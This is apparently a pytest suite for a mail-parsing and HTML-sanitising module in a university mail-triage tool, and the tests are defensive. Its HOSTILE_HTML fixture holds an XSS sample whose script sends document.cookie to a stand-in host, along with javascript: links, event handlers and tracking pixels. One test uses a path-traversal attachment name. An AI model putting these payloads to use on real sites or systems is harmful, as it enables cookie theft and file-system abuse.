"""A mail's parts become readable text, attachments and safe HTML, even when it is broken."""

from __future__ import annotations

import base64
import binascii
import re
from datetime import UTC, datetime

import pytest

from triage.mail.html import sanitise_html
from triage.mail.htmltext import html_to_text
from triage.mail.mime import parse_message

PDF = b"%PDF-1.4\n\xe2\xe3\xcf\xd3\n1 0 obj << >> endobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(32))


def _multipart(content_type: bytes, *parts: bytes, boundary: bytes = b"BOUNDARY") -> bytes:
    """A mail from a student whose body is `parts`, each a part's headers and body."""
    head = (
        b"From: Asa Oberg <asa@example.se>\n"
        b"To: io@uni.se\n"
        b"Subject: Dokument\n"
        b"MIME-Version: 1.0\n"
        b"Content-Type: " + content_type + b'; boundary="' + boundary + b'"\n\n'
    )
    body = b"".join(b"--" + boundary + b"\n" + part + b"\n" for part in parts)
    return head + body + b"--" + boundary + b"--\n"


def _base64_part(headers: bytes, data: bytes) -> bytes:
    return headers + b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(data)


def test_multipart_alternative_gives_the_plain_part_as_text() -> None:
    raw = _multipart(
        b"multipart/alternative",
        b"Content-Type: text/plain; charset=utf-8\n\nHej! Textversionen h\xc3\xa4r.\n",
        b"Content-Type: text/html; charset=utf-8\n\n<p>Hej! <b>HTML</b>-versionen.</p>\n",
    )

    parsed = parse_message(raw)

    assert parsed.text == "Hej! Textversionen här."
    assert "HTML" not in parsed.text


def test_multipart_alternative_keeps_the_html_for_display() -> None:
    raw = _multipart(
        b"multipart/alternative",
        b"Content-Type: text/plain; charset=utf-8\n\nHej!\n",
        b"Content-Type: text/html; charset=utf-8\n\n<p>Hej! <b>Fetstil</b></p>\n",
    )

    parsed = parse_message(raw)

    assert "<b>Fetstil</b>" in parsed.html


def test_multipart_alternative_prefers_the_plain_part_even_when_html_comes_first() -> None:
    raw = _multipart(
        b"multipart/alternative",
        b"Content-Type: text/html; charset=utf-8\n\n<p>HTML-versionen</p>\n",
        b"Content-Type: text/plain; charset=utf-8\n\nTextversionen\n",
    )

    parsed = parse_message(raw)

    assert parsed.text == "Textversionen"


def test_multipart_alternative_with_an_empty_plain_part_gives_the_html_text() -> None:
    raw = _multipart(
        b"multipart/alternative",
        b"Content-Type: text/plain; charset=utf-8\n\n   \n",
        b"Content-Type: text/html; charset=utf-8\n\n<p>Bara HTML h\xc3\xa4r</p>\n",
    )

    parsed = parse_message(raw)

    assert parsed.text == "Bara HTML här"


def test_an_html_side_with_its_images_gives_the_text_only_when_the_plain_side_is_empty() -> None:
    """As Outlook and Apple Mail send it: the HTML with its inline images in a multipart/related;
    then, inside a forwarded mail, the same shape again."""
    related = (
        b'Content-Type: multipart/related; boundary="REL"\n\n'
        b"--REL\nContent-Type: text/html; charset=utf-8\n\n<p>Rummet i <b>HTML</b></p>\n"
        b"--REL\n"
        + _base64_part(b"Content-Type: image/png\nContent-ID: <logo@uni.se>\n", PNG)
        + b"--REL--\n"
    )
    worded = _multipart(
        b"multipart/alternative",
        b"Content-Type: text/plain; charset=utf-8\n\nRummet i text\n",
        related,
    )
    blank = _multipart(
        b"multipart/alternative", b"Content-Type: text/plain; charset=utf-8\n\n \n", related
    )
    forwarded = _multipart(
        b"multipart/mixed",
        b"Content-Type: text/plain; charset=utf-8\n\nSe nedan.\n",
        b"Content-Type: message/rfc822\n\nSubject: Rum\n" + blank[blank.index(b"MIME-Version") :],
    )

    assert parse_message(worded).text == "Rummet i text"
    assert parse_message(blank).text == "Rummet i HTML"
    assert [a.content_id for a in parse_message(worded).attachments] == ["logo@uni.se"]
    text = parse_message(forwarded).text
    assert text.startswith("Se nedan."), text
    assert text.endswith("Rummet i HTML"), text


HTML_LETTER = """<html><head>
<style>p { color: red; }</style><script>var tracking = 1;</script>
</head><body>
<p>Hej &amp; v&auml;lkommen till G&ouml;teborg!&nbsp;Ses&nbsp;snart &#8211; IO</p>
<table>
<tr><th>Kurs</th><th>Po&auml;ng</th></tr>
<tr><td>Svenska A1</td><td>7,5 hp</td></tr>
<tr><td>Forskningsmetodik</td><td>15 hp</td></tr>
</table>
</body></html>"""


def _html_only_mail() -> bytes:
    return (
        b"From: io@uni.se\nTo: asa@example.se\nSubject: Kurser\nMIME-Version: 1.0\n"
        b"Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
        + HTML_LETTER.encode("utf-8")
    )


def test_an_html_only_mail_gives_text_without_tags() -> None:
    parsed = parse_message(_html_only_mail())

    assert "välkommen till Göteborg" in parsed.text
    assert "<" not in parsed.text
    assert "color" not in parsed.text
    assert "tracking" not in parsed.text


def test_an_html_only_mail_has_its_entities_decoded() -> None:
    parsed = parse_message(_html_only_mail())

    assert "Hej & välkommen till Göteborg! Ses snart – IO" in parsed.text
    assert "&" + "auml;" not in parsed.text
    assert "\xa0" not in parsed.text


def test_an_html_only_mail_keeps_table_cells_apart_and_rows_on_their_own_lines() -> None:
    parsed = parse_message(_html_only_mail())

    lines = parsed.text.splitlines()
    assert any(re.fullmatch(r"\s*Svenska A1\s+7,5 hp\s*", line) for line in lines)
    assert any(re.fullmatch(r"\s*Forskningsmetodik\s+15 hp\s*", line) for line in lines)


def test_html_to_text_does_not_raise_on_broken_markup() -> None:
    text = html_to_text("<div><p>ofullst&auml;ndig <b>fet <i>kursiv</div></td></table")

    assert text == "ofullständig fet kursiv"


def _forwarded_mail() -> bytes:
    inner = (
        b"From: =?utf-8?Q?Bj=C3=B6rn_Ek?= <bjorn@example.se>\n"
        b"To: housing@uni.se\n"
        b"Subject: =?utf-8?Q?Bostadsans=C3=B6kan_h=C3=B6sten?=\n"
        b"Date: Mon, 2 Mar 2020 09:00:00 +0100\n"
        b"Message-ID: <inner-1@example.se>\n"
        b"Content-Type: text/plain; charset=utf-8\n\n"
        b"Jag vill s\xc3\xb6ka bostad till h\xc3\xb6sten.\n"
    )
    return _multipart(
        b"multipart/mixed",
        b"Content-Type: text/plain; charset=utf-8\n\nSe nedan, kan ni svara honom?\n",
        b"Content-Type: message/rfc822\nContent-Disposition: attachment\n\n" + inner,
    )


def test_a_forwarded_mail_has_its_text_in_the_text() -> None:
    parsed = parse_message(_forwarded_mail())

    assert "Se nedan, kan ni svara honom?" in parsed.text
    assert "Jag vill söka bostad till hösten." in parsed.text


def test_a_forwarded_mail_has_its_subject_and_sender_in_the_text() -> None:
    parsed = parse_message(_forwarded_mail())

    assert "Subject: Bostadsansökan hösten" in parsed.text
    assert "From: Björn Ek <bjorn@example.se>" in parsed.text


def test_a_forwarded_mail_has_its_message_id_in_nested_ids() -> None:
    parsed = parse_message(_forwarded_mail())

    assert parsed.nested_ids == ["<inner-1@example.se>"]


def test_a_base64_encoded_forwarded_mail_is_read_too() -> None:
    inner = b"From: bjorn@example.se\nSubject: Nyckel\nMessage-ID: <inner-2@example.se>\n\nVar?\n"
    raw = _multipart(
        b"multipart/mixed",
        b"Content-Type: text/plain\n\nFYI\n",
        _base64_part(b"Content-Type: message/rfc822\n", inner),
    )

    parsed = parse_message(raw)

    assert "Subject: Nyckel" in parsed.text
    assert "Var?" in parsed.text
    assert parsed.nested_ids == ["<inner-2@example.se>"]


def _related_mail() -> bytes:
    related = (
        b'Content-Type: multipart/related; boundary="REL"\n\n'
        b"--REL\n"
        b"Content-Type: text/html; charset=utf-8\n\n"
        b'<p>V\xc3\xa5r logga: <img src="cid:logo@uni.se"></p>\n'
        b"--REL\n"
        + _base64_part(b"Content-Type: image/png\nContent-ID: <logo@uni.se>\n", PNG)
        + b"--REL--\n"
    )
    return _multipart(b"multipart/mixed", related)


def test_an_image_with_a_content_id_is_an_inline_attachment() -> None:
    parsed = parse_message(_related_mail())

    [image] = parsed.attachments
    assert image.is_inline
    assert image.content_id == "logo@uni.se"
    assert image.content_type == "image/png"
    assert image.data == PNG


def test_an_inline_image_gets_a_file_name_when_it_has_none() -> None:
    parsed = parse_message(_related_mail())

    [image] = parsed.attachments
    assert image.filename.endswith(".png")


def test_the_html_of_a_related_mail_keeps_its_cid_image() -> None:
    parsed = parse_message(_related_mail())

    assert '<img src="cid:logo@uni.se">' in parsed.html
    assert parsed.text == "Vår logga:"


def test_an_attachment_keeps_its_name_and_bytes() -> None:
    raw = _multipart(
        b"multipart/mixed",
        b"Content-Type: text/plain\n\nSe bilaga.\n",
        _base64_part(
            b'Content-Type: application/pdf; name="intyg.pdf"\n'
            b'Content-Disposition: attachment; filename="intyg.pdf"\n',
            PDF,
        ),
    )

    parsed = parse_message(raw)

    [pdf] = parsed.attachments
    assert pdf.filename == "intyg.pdf"
    assert pdf.content_type == "application/pdf"
    assert pdf.data == PDF
    assert not pdf.is_inline
    assert parsed.text == "Se bilaga."


@pytest.mark.parametrize(
    "disposition",
    [
        pytest.param(
            b"attachment; filename*=utf-8''Intyg%20fr%C3%A5n%20G%C3%B6teborg"
            b"%20%C3%A5%C3%A4%C3%B6.pdf",
            id="rfc2231-utf-8",
        ),
        pytest.param(
            b"attachment; filename*=iso-8859-1''Intyg%20fr%E5n%20G%F6teborg%20%E5%E4%F6.pdf",
            id="rfc2231-iso-8859-1",
        ),
        pytest.param(
            b"attachment;\n filename*0*=utf-8''Intyg%20fr%C3%A5n%20G%C3%B6teborg;\n"
            b" filename*1*=%20%C3%A5%C3%A4%C3%B6.pdf",
            id="rfc2231-continuation",
        ),
        pytest.param(
            b'attachment; filename="=?utf-8?Q?Intyg_fr=C3=A5n_G=C3=B6teborg_'
            b'=C3=A5=C3=A4=C3=B6.pdf?="',
            id="rfc2047-q",
        ),
        pytest.param(
            b'attachment; filename="=?iso-8859-1?B?SW50eWcgZnLlbiBH9nRlYm9yZyDl5PYucGRm?="',
            id="rfc2047-b",
        ),
    ],
)
def test_an_encoded_attachment_name_keeps_its_swedish_letters(disposition: bytes) -> None:
    raw = _multipart(
        b"multipart/mixed",
        b"Content-Type: text/plain\n\nSe bilaga.\n",
        _base64_part(
            b"Content-Type: application/pdf\nContent-Disposition: " + disposition + b"\n", PDF
        ),
    )

    parsed = parse_message(raw)

    [pdf] = parsed.attachments
    assert pdf.filename == "Intyg från Göteborg åäö.pdf"
    assert pdf.data == PDF


def test_a_raw_8bit_utf8_attachment_name_keeps_its_swedish_letters() -> None:
    raw = _multipart(
        b"multipart/mixed",
        b"Content-Type: text/plain\n\nSe bilaga.\n",
        _base64_part(
            b"Content-Type: application/pdf\n"
            b'Content-Disposition: attachment; filename="'
            + "Intyg från Göteborg.pdf".encode()
            + b'"\n',
            PDF,
        ),
    )

    parsed = parse_message(raw)

    [pdf] = parsed.attachments
    assert pdf.filename == "Intyg från Göteborg.pdf"


def test_an_attachment_name_cannot_point_into_another_directory() -> None:
    raw = _multipart(
        b"multipart/mixed",
        _base64_part(
            b"Content-Type: application/pdf\n"
            b'Content-Disposition: attachment; filename="../../etc/intyg.pdf"\n',
            PDF,
        ),
    )

    parsed = parse_message(raw)

    [pdf] = parsed.attachments
    assert "/" not in pdf.filename
    assert "\\" not in pdf.filename


def test_winmail_dat_is_listed_as_an_attachment() -> None:
    tnef = b"\x78\x9f\x3e\x22\x01\x00tnef data"
    raw = _multipart(
        b"multipart/mixed",
        b"Content-Type: text/plain\n\nSe bifogat.\n",
        _base64_part(
            b'Content-Type: application/ms-tnef; name="winmail.dat"\n'
            b'Content-Disposition: attachment; filename="winmail.dat"\n',
            tnef,
        ),
    )

    parsed = parse_message(raw)

    [winmail] = parsed.attachments
    assert winmail.filename == "winmail.dat"
    assert winmail.content_type == "application/ms-tnef"
    assert winmail.data == tnef


def test_winmail_dat_without_a_name_is_still_listed_as_an_attachment() -> None:
    raw = _multipart(
        b"multipart/mixed",
        b"Content-Type: text/plain\n\nSe bifogat.\n",
        _base64_part(b"Content-Type: application/ms-tnef\n", b"\x78\x9f\x3e\x22"),
    )

    parsed = parse_message(raw)

    [winmail] = parsed.attachments
    assert winmail.content_type == "application/ms-tnef"
    assert winmail.filename.endswith(".dat")


def test_a_multipart_without_its_closing_boundary_still_gives_its_text() -> None:
    raw = (
        b"From: asa@example.se\nSubject: Avbrutet\nMIME-Version: 1.0\n"
        b'Content-Type: multipart/mixed; boundary="b1"\n\n'
        b"--b1\nContent-Type: text/plain; charset=utf-8\n\n"
        b"Hej, jag skickar mitt intyg.\nH\xc3\xa4lsningar fr\xc3\xa5n G\xc3\xb6teborg\n"
    )

    parsed = parse_message(raw)

    assert "Hälsningar från Göteborg" in parsed.text
    assert parsed.defects


def test_an_alternative_without_its_closing_boundary_still_gives_its_text() -> None:
    raw = (
        b"From: asa@example.se\nSubject: Avbrutet\nMIME-Version: 1.0\n"
        b'Content-Type: multipart/alternative; boundary="b1"\n\n'
        b"--b1\nContent-Type: text/plain; charset=utf-8\n\nHej, jag skickar mitt intyg.\n"
        b"--b1\nContent-Type: text/html; charset=utf-8\n\n<p>Hej, jag skickar mitt intyg.</p>\n"
    )

    parsed = parse_message(raw)

    assert parsed.text == "Hej, jag skickar mitt intyg."


def test_a_header_line_without_a_colon_does_not_raise_and_keeps_the_body() -> None:
    raw = (
        b"From: asa@example.se\n"
        b"This line has no colon\n"
        b"Subject: Nyckel\n"
        b"\n"
        b"Var h\xc3\xa4mtar jag nyckeln?\n"
    )

    parsed = parse_message(raw)

    assert parsed.from_email == "asa@example.se"
    assert "Var hämtar jag nyckeln?" in parsed.text


def test_a_header_without_its_colon_and_the_headers_after_it_stay_out_of_the_text() -> None:
    raw = (
        b"From: asa@example.se\nSubject: Nyckel\n"
        b"X-Mailer Campus Webmail 2.1\n"
        b"Content-Transfer-Encoding: 8bit\n"
        b"\n"
        b"Hej!\n\nVar h\xc3\xa4mtar jag nyckeln?\n"
    )

    parsed = parse_message(raw)

    assert parsed.text == "Hej!\n\nVar hämtar jag nyckeln?"
    assert "header lines without a colon; left out of the text" in parsed.defects


def test_a_mail_without_a_blank_line_after_its_headers_keeps_its_first_line() -> None:
    raw = b"From: asa@example.se\nSubject: Resa\nRe-entry permit, how?\n\nI leave in May.\n"

    parsed = parse_message(raw)

    assert parsed.text == "Re-entry permit, how?\n\nI leave in May."


def test_a_base64_body_with_junk_inside_and_its_padding_cut_is_read_as_far_as_it_goes() -> None:
    text = "Hej! Här kommer kvittot på att jag har betalat studieavgiften.\n\nHälsningar\nNoor"
    encoded = base64.b64encode(text.encode()).decode()
    broken = encoded[:52] + "*#!%" + encoded[52:-3]  # as the demo's broken mail has it
    raw = (
        b"From: noor@example.com\nSubject: Kvitto\nContent-Type: text/plain; charset=utf-8\n"
        b"Content-Transfer-Encoding: base64\n\n" + broken.encode() + b"\n"
    )

    parsed = parse_message(raw)

    assert parsed.text.startswith("Hej! Här kommer kvittot på att jag har betalat studieavgiften.")
    assert "Hälsningar" in parsed.text
    assert "base64 body with a broken length, read as far as it goes" in parsed.defects


@pytest.mark.parametrize(
    "date",
    [
        b"Tisdag den 3 mars kl 14",
        b"Mon, 32 Foo 2024 25:61:00 +0100",
        b"",
        b"Tue, 3 Mar 99999 14:05:00 +0100",
    ],
)
def test_a_garbled_date_does_not_raise_and_gives_no_date(date: bytes) -> None:
    raw = b"From: asa@example.se\nSubject: Nyckel\nDate: " + date + b"\n\nHej\n"

    parsed = parse_message(raw)

    assert parsed.date is None
    assert parsed.text == "Hej"


def test_a_date_is_read_in_utc() -> None:
    raw = b"From: asa@example.se\nSubject: x\nDate: Tue, 3 Mar 2020 14:05:00 +0100\n\nHej\n"

    parsed = parse_message(raw)

    assert parsed.date == datetime(2020, 3, 3, 13, 5, tzinfo=UTC)


def test_message_id_in_reply_to_and_references_are_extracted() -> None:
    raw = (
        b"From: asa@example.se\n"
        b"Subject: Re: Rum\n"
        b"Message-ID: <CAB123.456@mail.gmail.com>\n"
        b"In-Reply-To: <case-7-2@uni.se>\n"
        b"References: <case-7-1@uni.se>\n <case-7-2@uni.se>\n"
        b"\n"
        b"Tack!\n"
    )

    parsed = parse_message(raw)

    assert parsed.message_id == "<CAB123.456@mail.gmail.com>"
    assert parsed.in_reply_to == "<case-7-2@uni.se>"
    assert parsed.references == ["<case-7-1@uni.se>", "<case-7-2@uni.se>"]


def test_a_message_id_without_angle_brackets_gets_them() -> None:
    raw = b"From: asa@example.se\nSubject: x\nMessage-ID: bare-id@example.se\n\nHej\n"

    parsed = parse_message(raw)

    assert parsed.message_id == "<bare-id@example.se>"


def test_to_and_cc_addresses_are_extracted_in_lower_case() -> None:
    raw = (
        b"From: asa@example.se\n"
        b'To: "International Office" <IO@Uni.se>, housing@uni.se\n'
        b"Cc: =?utf-8?Q?Bj=C3=B6rn?= <Bjorn@Example.se>\n"
        b"Subject: x\n\nHej\n"
    )

    parsed = parse_message(raw)

    assert parsed.to == ["io@uni.se", "housing@uni.se"]
    assert parsed.cc == ["bjorn@example.se"]


def _bounce(returned_part: bytes) -> bytes:
    return _multipart(
        b"multipart/report; report-type=delivery-status",
        b"Content-Type: text/plain; charset=us-ascii\n\n"
        b"Your message could not be delivered to student@example.com.\n",
        b"Content-Type: message/delivery-status\n\n"
        b"Reporting-MTA: dns; mx.uni.se\n\n"
        b"Final-Recipient: rfc822; student@example.com\nAction: failed\nStatus: 5.1.1\n",
        returned_part,
    )


_RETURNED_HEADERS = (
    b"From: io@uni.se\n"
    b"To: student@example.com\n"
    b"Subject: Your admission\n"
    b"Message-ID: <case-42-1@uni.se>\n"
)


def test_the_returned_message_id_in_a_bounce_with_rfc822_headers_is_in_nested_ids() -> None:
    raw = _bounce(b"Content-Type: text/rfc822-headers\n\n" + _RETURNED_HEADERS)

    parsed = parse_message(raw)

    assert "<case-42-1@uni.se>" in parsed.nested_ids


def test_the_returned_message_id_in_a_bounce_with_the_whole_message_is_in_nested_ids() -> None:
    raw = _bounce(b"Content-Type: message/rfc822\n\n" + _RETURNED_HEADERS + b"\nWelcome!\n")

    parsed = parse_message(raw)

    assert "<case-42-1@uni.se>" in parsed.nested_ids


def test_a_bounce_shows_why_delivery_failed() -> None:
    raw = _bounce(b"Content-Type: text/rfc822-headers\n\n" + _RETURNED_HEADERS)

    parsed = parse_message(raw)

    assert "could not be delivered to student@example.com" in parsed.text
    assert "Status: 5.1.1" in parsed.text
    assert "Subject: Your admission" in parsed.text


HOSTILE_HTML = """<p onclick="steal()">Hej!</p>
<script>document.location = "https://evil.example/" + document.cookie</script>
<a href="javascript:alert(1)">Klicka</a>
<a href="JaVaScRiPt:alert(2)">Klicka igen</a>
<a href="https://www.uni.se/bostad" onmouseover="steal()">Bostad</a>
<img src="https://tracker.example.com/pixel.gif?id=123" width="1" height="1">
<img src="//tracker.example.com/pixel2.gif">
<img src="cid:logo@uni.se" alt="logo" onerror="steal()">
<iframe src="https://evil.example/"></iframe>"""


def test_sanitised_html_has_no_script() -> None:
    clean = sanitise_html(HOSTILE_HTML)

    assert "<script" not in clean
    assert "document.cookie" not in clean
    assert "<iframe" not in clean


def test_sanitised_html_has_no_event_handler_attributes() -> None:
    clean = sanitise_html(HOSTILE_HTML)

    assert not re.search(r"\son\w+\s*=", clean, re.IGNORECASE)


def test_sanitised_html_has_no_javascript_links() -> None:
    clean = sanitise_html(HOSTILE_HTML)

    assert "javascript:" not in clean.lower()
    assert 'href="https://www.uni.se/bostad"' in clean


def test_sanitised_html_has_no_remote_images_but_keeps_cid_images() -> None:
    clean = sanitise_html(HOSTILE_HTML)

    assert "tracker.example.com" not in clean
    assert 'src="cid:logo@uni.se"' in clean


def test_the_html_of_a_parsed_mail_is_sanitised() -> None:
    raw = (
        b"From: asa@example.se\nSubject: x\nMIME-Version: 1.0\n"
        b"Content-Type: text/html; charset=utf-8\n\n" + HOSTILE_HTML.encode("utf-8")
    )

    parsed = parse_message(raw)

    assert "<script" not in parsed.html
    assert "tracker.example.com" not in parsed.html
    assert "Hej!" in parsed.html


def _uuencode(name: str, data: bytes) -> bytes:
    lines = [binascii.b2a_uu(data[i : i + 45]) for i in range(0, len(data), 45)]
    return f"begin 644 {name}\n".encode() + b"".join(lines) + b"`\nend\n"


def test_a_uuencoded_file_in_a_plain_body_becomes_an_attachment() -> None:
    data = bytes(range(256)) + "Betyg för Åsa".encode()
    raw = (
        b"From: notes@example.se\nSubject: Betyg\n\n"
        b"Hej, se bifogad fil.\n\n" + _uuencode("betyg.bin", data) + b"\nMvh\nLotus\n"
    )

    parsed = parse_message(raw)

    [uu] = parsed.attachments
    assert uu.filename == "betyg.bin"
    assert uu.data == data


def test_a_uuencoded_file_leaves_the_text_around_it_without_its_encoded_lines() -> None:
    encoded = _uuencode("betyg.pdf", b"%PDF-1.4 " * 20)
    raw = (
        b"From: notes@example.se\nSubject: Betyg\n\n"
        b"Hej, se bifogad fil.\n\n" + encoded + b"\nMvh\nLotus\n"
    )

    parsed = parse_message(raw)

    assert parsed.text.startswith("Hej, se bifogad fil.")
    assert parsed.text.endswith("Mvh\nLotus")
    for line in encoded.decode("ascii").splitlines()[1:-2]:
        assert line not in parsed.text
